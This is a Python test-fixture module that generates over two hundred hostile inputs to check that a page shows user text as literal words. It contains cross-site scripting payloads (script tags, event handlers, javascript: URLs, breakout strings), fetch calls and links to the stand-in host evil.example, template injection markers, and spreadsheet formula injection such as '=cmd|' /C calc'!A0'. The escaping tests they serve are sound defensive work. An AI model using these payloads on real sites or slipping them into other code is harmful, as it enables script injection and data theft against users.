"""Two hundred words that a page must show as words: markup, links, pictures, scripts and formulas in every dress.

Each that would do something sets `window.hurt`, opens a dialogue, or asks evil.example for something.
"""

from itertools import product

HOST = "evil.example"
ACTS = ("window.hurt=1", "alert(1)", f"fetch('//{HOST}')")
_TAGS = (
    "<script>{act}</script>", "<img src=x onerror={act}>", "<svg onload={act}>", "<body onload={act}>", "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>", "<iframe srcdoc='<script>{act}</script>'>", "<a href=javascript:{act}>x</a>", "<b onmouseover={act}>x</b>",
    "\"><img src=x onerror={act}>", "'><svg/onload={act}>", "</script><script>{act}</script>", "</title><img src=x onerror={act}>",
    "<<script>{act}//<</script>", "<ScRiPt>{act}</sCrIpT>", "<math href=javascript:{act}>x", "<img/src='x'/onerror={act}>", "<video src=x onerror={act}>",
    "<button onclick={act}>x</button>", "<style onload={act}></style>", "&lt;img src=x onerror={act}&gt;", "&#60;script>{act}</script>",
    "\\u003cimg src=x onerror={act}\\u003e", "<marquee onstart={act}>", "<object data=javascript:{act}>", "<embed src=javascript:{act}>",
    "<form action=javascript:{act}><input type=submit>", "<isindex action=javascript:{act}>", "<link rel=import href=javascript:{act}>",
)  # fmt: skip
_LINKS = (
    "[x](javascript:{act})", "[x](//{host})", "[x](https://{host})", "![x](https://{host}/a.png)", "<https://{host}>", "https://{host}/a", "www.{host}", "a@{host}", "mailto:a@{host}",
    "[x][1]\n\n[1]: https://{host}", "<a href=https://{host}>x</a>", "<img src=https://{host}/a.png>", "<link rel=stylesheet href=//{host}>", "<meta http-equiv=refresh content='0;//{host}'>",
    "<base href=//{host}>", "<iframe src=//{host}>", "<svg><image href=//{host}/a.svg>", "<style>@import '//{host}'</style>", "<p style=background:url(//{host})>", "<form action=//{host}><button>x",
    "<video poster=//{host}/a.png>", "<audio src=//{host}/a autoplay>", "<a href='//{host}' target=_top>x</a>", "<table background=//{host}>", "<picture><source srcset=//{host}/a>", "<object data=//{host}/a>",
)  # fmt: skip
_MARKS = (
    "# x", "**x**", "*x*", "~~x~~", "`x`", "```x```", "> x", "- x", "1. x", "| a | b |\n|---|---|\n| 1 | 2 |", "$x^2$", "$$\\frac{1}{2}$$", ":red[x]", ":material/bolt:", ":rainbow[x]", ":blue-background[x]",
    "---", "x  \ny", "<br>", "<h1>x</h1>", "<hr>", "&nbsp;&copy;", "\\[x\\]", "{{x}}", "${x}", "<%= x %>", "%s%n", "{0}", ":streamlit:", "[ ] x", "[^1]", "x[^1]\n\n[^1]: y", "\u202egnp.exe", "\x00x", "\x1b[31mx", "<!-- x -->",
    "<![CDATA[x]]>", "<?xml x?>", "<!DOCTYPE x>", "']);alert(1)//", "\";alert(1)//", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "=cmd|' /C calc'!A0", "=HYPERLINK(\"//evil.example\")", "@SUM(1)", "+1+1", "-1+1",
)  # fmt: skip


def hostile_words() -> list[str]:
    """At least 200, each once."""
    words = [
        *(tag.format(act=act) for tag, act in product(_TAGS, ACTS)),
        *(link.format(act=ACTS[0], host=HOST) for link in _LINKS),
        *_MARKS,
        *(f"Ward 7 {link.format(act=ACTS[0], host=HOST)}" for link in _LINKS),
        *(f"x {mark} y" for mark in _MARKS[:20]),
    ]
    return list(dict.fromkeys(words))
